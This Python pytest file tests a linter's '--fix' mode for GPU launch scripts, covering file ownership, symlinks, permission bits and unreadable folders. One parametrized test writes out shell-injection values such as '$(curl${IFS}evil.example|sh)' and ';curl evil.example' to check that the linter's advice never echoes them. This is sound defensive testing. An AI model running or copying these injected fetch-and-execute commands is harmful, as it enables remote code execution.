"""`safelaunch lint` in folders of other users: what `--fix` writes and where, and what could not be looked at."""

from __future__ import annotations

import os
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from harness import REPOSITORY, environment

from safelaunch.cli import lint
from safelaunch.cli.lint_files import LintedFiles
from safelaunch.settings.lint.extract import grammar
from safelaunch.settings.lint.installed import stated
from safelaunch.settings.lint.jobs import write
from safelaunch.settings.lint.jobs.remark import Edit, Span

NEW = ("--torch", "2.9", "--nccl", "2.27")
JOB = "#!/bin/bash\nexport NCCL_ASYNC_ERROR_HANDLING=1\ntorchrun train.py\n"
MENDED = JOB.replace("NCCL_ASYNC", "TORCH_NCCL_ASYNC")
SOMEBODY_ELSE = 54321


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = lint.run([*NEW, *argv])
    return code, capsys.readouterr().out


def linted(*paths: str) -> LintedFiles:
    files = LintedFiles(stated("2.9", "2.27"), {})
    files.look(paths)
    return files


def test_a_mended_file_gets_no_right_beyond_those_to_read_write_and_run(capsys: pytest.CaptureFixture[str]) -> None:
    Path("job.sh").write_text(JOB)
    os.chmod("job.sh", 0o6755)
    assert "1 finding mended in 1 file" in run(capsys, "--fix", "job.sh")[1]
    assert Path("job.sh").read_text() == MENDED
    assert stat.S_IMODE(os.stat("job.sh").st_mode) == 0o755


def test_a_file_of_another_user_is_not_changed(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    Path("job.sh").write_text(JOB)
    monkeypatch.setattr(os, "geteuid", lambda: SOMEBODY_ELSE)
    for path in ("job.sh", "."):
        code, out = run(capsys, "--fix", path)
        assert code == 2
        assert "to another user: fix it as its owner" in out
        assert "NCCL_ASYNC_ERROR_HANDLING" in out, "what was found is told all the same"
        assert Path("job.sh").read_text() == JOB


def test_a_link_below_a_folder_is_not_followed_and_one_that_was_named_is(capsys: pytest.CaptureFixture[str]) -> None:
    Path("mine").write_text(JOB)
    Path("jobs").mkdir()
    Path("jobs/job.sh").symlink_to("../mine")
    code, out = run(capsys, "--fix", "jobs")
    assert (code, Path("mine").read_text()) == (1, JOB)
    assert "jobs/job.sh is not changed: it is a link" in out
    assert "1 finding mended" in run(capsys, "--fix", "jobs/job.sh")[1]
    assert (Path("mine").read_text(), Path("jobs/job.sh").is_symlink()) == (MENDED, True)


@pytest.mark.parametrize("named", ["jobs", "jobs/job.sh"])
def test_what_has_taken_the_place_of_a_file_since_it_was_read_is_not_changed(named: str) -> None:
    Path("jobs").mkdir()
    Path("jobs/job.sh").write_text(JOB)
    other = Path("bashrc")
    other.write_text(f"# mine\n{JOB}")
    files = linted(named)
    os.unlink("jobs/job.sh")
    os.symlink("../bashrc", "jobs/job.sh")
    assert files.fix() == (0, 0)
    assert other.read_text() == f"# mine\n{JOB}"
    os.unlink("jobs/job.sh")
    os.link(other, "jobs/job.sh")
    assert files.fix() == (0, 0)
    assert Path("jobs/job.sh").read_text() == f"# mine\n{JOB}"
    assert os.listdir("jobs") == ["job.sh"]


def test_a_folder_that_cannot_be_written_costs_its_files_alone(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for folder in ("a", "b", "c"):
        Path(folder).mkdir()
        Path(folder, "job.sh").write_text(JOB)
    opened, inode = os.open, os.stat("b").st_ino

    def refusing(path: str, flags: int, mode: int = 0o777, *, dir_fd: int | None = None) -> int:
        if flags & os.O_CREAT and dir_fd is not None and os.fstat(dir_fd).st_ino == inode:
            raise PermissionError(13, "Permission denied", path)
        return opened(path, flags, mode, dir_fd=dir_fd)

    monkeypatch.setattr(os, "open", refusing)
    code, out = run(capsys, "--fix", ".")
    assert code == 2
    assert "b/job.sh is not changed: Permission denied" in out
    assert "NCCL_ASYNC_ERROR_HANDLING" in out
    assert out.endswith("2 findings mended in 2 files\n")
    assert [Path(folder, "job.sh").read_text() for folder in "abc"] == [MENDED, JOB, MENDED]


def test_a_mend_that_makes_way_for_another_is_made_with_it() -> None:
    name, value = Span(1, 0, 1), Span(1, 2, 3)
    rounds = {"B=1\n": [Edit(value, "2")], "B=2\n": []}
    assert write.settled("A=1\n", [Edit(name, "B")], lambda text: rounds[text]) == "B=2\n"


# ------------------------------------------------------------------------------------------------- not looked at


def test_what_cannot_be_looked_at_is_told(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    for folder in ("jobs/closed", "jobs/open"):
        Path(folder).mkdir(parents=True)
        Path(folder, "job.sh").write_text(JOB)
    listed, closed, access, opened = os.scandir, os.path.abspath("jobs/closed"), os.access, os.open
    secret = os.path.abspath("jobs/open/job.sh")

    def scandir(path: str) -> object:
        if os.path.abspath(path) == closed:
            raise PermissionError(13, "Permission denied", path)
        return listed(path)

    monkeypatch.setattr(os, "scandir", scandir)
    for named in ("jobs/closed", "jobs"):
        code, out = run(capsys, named)
        assert code == 2
        assert "error[SL201]: jobs/closed cannot be read: Permission denied" in out

    def refusing(path: str, flags: int, mode: int = 0o777, *, dir_fd: int | None = None) -> int:
        if os.path.abspath(path) == secret:
            raise PermissionError(13, "Permission denied", path)
        return opened(path, flags, mode, dir_fd=dir_fd)

    monkeypatch.setattr(os, "access", lambda path, mode: os.path.abspath(path) != secret and access(path, mode))
    monkeypatch.setattr(os, "open", refusing)
    code, out = run(capsys, "jobs")
    assert code == 2
    assert "error[SL201]: jobs/open/job.sh cannot be read: Permission denied" in out


def test_a_folder_that_is_too_deep_to_be_opened_is_told(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    top = os.open(tmp_path, os.O_RDONLY)
    for _ in range(50):
        os.mkdir("d" * 100, dir_fd=top)
        below = os.open("d" * 100, os.O_RDONLY, dir_fd=top)
        os.close(top)
        top = below
    os.close(top)
    code, out = run(capsys, ".")
    assert (code, "cannot be read: File name too long" in " ".join(out.split())) == (2, True)


@pytest.mark.parametrize("before", ["((((((", "[[ ((( $((", "for ((;;"])
def test_a_name_behind_what_is_no_shell_is_not_passed_over(before: str, capsys: pytest.CaptureFixture[str]) -> None:
    Path("job.sh").write_text(f"#!/bin/bash\nexport NCCL_DEBUG=INFO\n{before}\nexport NCCL_ASYNC_ERROR_HANDLING=1\n")
    out = run(capsys, "job.sh")[1]
    assert "nothing found" not in out
    assert "NCCL_ASYNC_ERROR_HANDLING" in out


@pytest.mark.parametrize(
    ("line", "advice"),
    [
        ("export NCCL_IB_HCA =$(curl${IFS}evil.example|sh)", "write export NCCL_IB_HCA=VALUE, without the blank"),
        ("export NCCL_IB_HCA =mlx5_0:1", "write export NCCL_IB_HCA=mlx5_0:1, without the blank"),
        ("unset NCCL_IB_HCA=`id`", "write unset NCCL_IB_HCA, or export NCCL_IB_HCA=VALUE"),
        ("export PYTORCH_ALLOC_CONF='x;curl evil.example'", "write"),
        ("export NCCL_P2P_PCI_CHUNKSIZE=' x;curl evil.example'", "write"),
        ("NCCL_IB_HCA=a;curl evil.example", "write export NCCL_IB_HCA=a"),
    ],
)
def test_a_value_is_advice_where_no_shell_would_run_it(
    line: str, advice: str, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("job.sh").write_text(f"#!/bin/bash\n{line}\ntorchrun train.py\n")
    told = [each for each in run(capsys, "job.sh")[1].splitlines() if "= help:" in each]
    assert advice in "".join(told)
    assert "evil.example" not in "".join(told)


# ------------------------------------------------------------------------------------------------- the grammar


def test_a_text_of_which_the_grammar_ends_its_process_costs_that_file_alone(tmp_path: Path) -> None:
    tmp_path.joinpath("bad.sh").write_text("export NCCL_DEBUG=INFO\n" + "a|" * 200_000 + "a\n")
    tmp_path.joinpath("good.sh").write_text(JOB)
    command = [sys.executable, "-m", "safelaunch", "lint", *NEW, "."]
    told = subprocess.run(
        command, cwd=tmp_path, env=environment(PYTHONPATH=str(REPOSITORY)), capture_output=True, text=True, check=False
    )
    assert told.returncode == 1, told.stderr
    assert "NCCL_ASYNC_ERROR_HANDLING" in told.stdout
    assert "the file could not be read from line 1 on" in told.stdout


def test_a_signal_that_ends_the_grammar_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    parent = os.getpid()

    def crash(data: bytes) -> object:
        if os.getpid() != parent:
            os.kill(os.getpid(), signal.SIGSEGV)
        return data

    monkeypatch.setattr(grammar, "_tree", crash)
    with pytest.raises(grammar.UnreadableError, match="SIGSEGV"):
        grammar.tree(b"a | b\n" * 10_000)
    assert grammar.tree(b"a | b\n") == b"a | b\n", "a small text is not read twice"
